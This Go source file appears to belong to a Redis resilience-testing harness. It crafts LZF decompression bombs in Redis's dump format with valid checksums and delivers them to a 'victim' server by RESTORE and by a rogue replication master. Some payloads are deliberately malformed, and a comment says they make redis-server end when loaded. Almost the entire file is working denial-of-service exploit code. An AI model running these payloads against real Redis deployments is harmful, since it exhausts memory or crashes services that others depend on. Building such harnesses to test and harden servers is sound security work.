package main

import (
	"encoding/binary"
	"fmt"
	"hash/crc64"
)

// lzfBomb returns a string in the dump format that expands to size bytes from a ninetieth of them.
// With lie it ends too early.
func lzfBomb(size int, lie bool) []byte {
	z := []byte{0, 'x'} // one literal
	for n := 1; n < size; {
		k := min(264, size-n)
		switch {
		case k < 3:
			z = append(z, byte(k-1))
			z = append(z, "xx"[:k]...)
		case k-2 < 7:
			z = append(z, byte(k-2)<<5, 0)
		default:
			z = append(z, 7<<5, byte(k-2-7), 0)
		}
		n += k
	}
	if lie {
		size += 1000
	}
	b := []byte{0xc3} // a string in LZF
	b = append(length(b, len(z)), length(nil, size)...)
	return append(b, z...)
}

// length appends a length of the dump format.
func length(b []byte, n int) []byte { return binary.BigEndian.AppendUint32(append(b, 0x80), uint32(n)) }

// dumpVersion is the version of dumps of Redis 7.0.
const dumpVersion = 10

// jones is the polynomial of the checksum of dumps.
var jones = crc64.MakeTable(0x95ac9329ac4bc9b5)

// sealed returns what RESTORE takes.
func sealed(b []byte) []byte {
	b = append(b[:len(b):len(b)], dumpVersion, 0)
	return binary.LittleEndian.AppendUint64(b, ^crc64.Update(^uint64(0), jones, b))
}

// bombs are values in the dump format, with the type first.
var bombs = []struct {
	name  string
	loads bool // else redis-server ends when a copy has it
	dump  func() []byte
}{
	{"string", true, func() []byte { return append([]byte{0}, lzfBomb(256<<20, false)...) }},
	{"string that lies", false, func() []byte { return append([]byte{0}, lzfBomb(256<<20, true)...) }},
	{"hash", true, func() []byte {
		b := []byte{4, 16}
		for i := range 16 {
			b = append(append(b, 1, byte('a'+i)), lzfBomb(16<<20, false)...)
		}
		return b
	}},
	{"list", true, func() []byte { // of plain nodes
		b := []byte{18, 16}
		for range 16 {
			b = append(append(b, 1), lzfBomb(16<<20, false)...)
		}
		return b
	}},
	{"listpack that is none", false, func() []byte { return append([]byte{16}, lzfBomb(256<<20, false)...) }},
	{"intset that is none", false, func() []byte { return append([]byte{11}, lzfBomb(256<<20, false)...) }},
}

var lzfBombs = growth("bombs", "compressed values of 256 MB come by RESTORE, in the copy of a master and in its stream", bombSettings())

func bombSettings() (list []setting) {
	for _, bomb := range bombs {
		list = append(list, setting{name: "RESTORE of a " + bomb.name, clients: 1, attack: func(v *victim) (int, error) {
			_, err := v.admin.do("RESTORE", "k", "0", string(sealed(bomb.dump())))
			return 0, err
		}})
		if !bomb.loads {
			continue
		}
		list = append(list, setting{name: "copy with a " + bomb.name, clients: 1, attack: func(v *victim) (int, error) {
			dump := bomb.dump()
			file := append([]byte("REDIS0010"), dump[0], 1, 'k')
			file = append(append(file, dump[1:]...), 0xff, 0, 0, 0, 0, 0, 0, 0, 0)
			return 0, v.follow(file, nil)
		}})
	}
	list = append(list, setting{name: "stream with a string", clients: 1, attack: func(v *victim) (int, error) {
		return 0, v.follow([]byte(emptyCopy), command("RESTORE", "k", "0", string(sealed(bombs[0].dump()))))
	}})
	return list
}

// follow makes the server a replica of a master that sends a copy and a stream.
func (v *victim) follow(copied, stream []byte) error {
	m, err := newEvilMaster()
	if err != nil {
		return err
	}
	defer m.Close()
	nc, err := m.adopt(v)
	if err != nil {
		return err
	}
	defer nc.Close()
	if _, err := fmt.Fprintf(nc, "$%d\r\n%s", len(copied), copied); err != nil {
		return err
	}
	if _, err := nc.Write(stream); err != nil {
		return err
	}
	return v.settle()
}
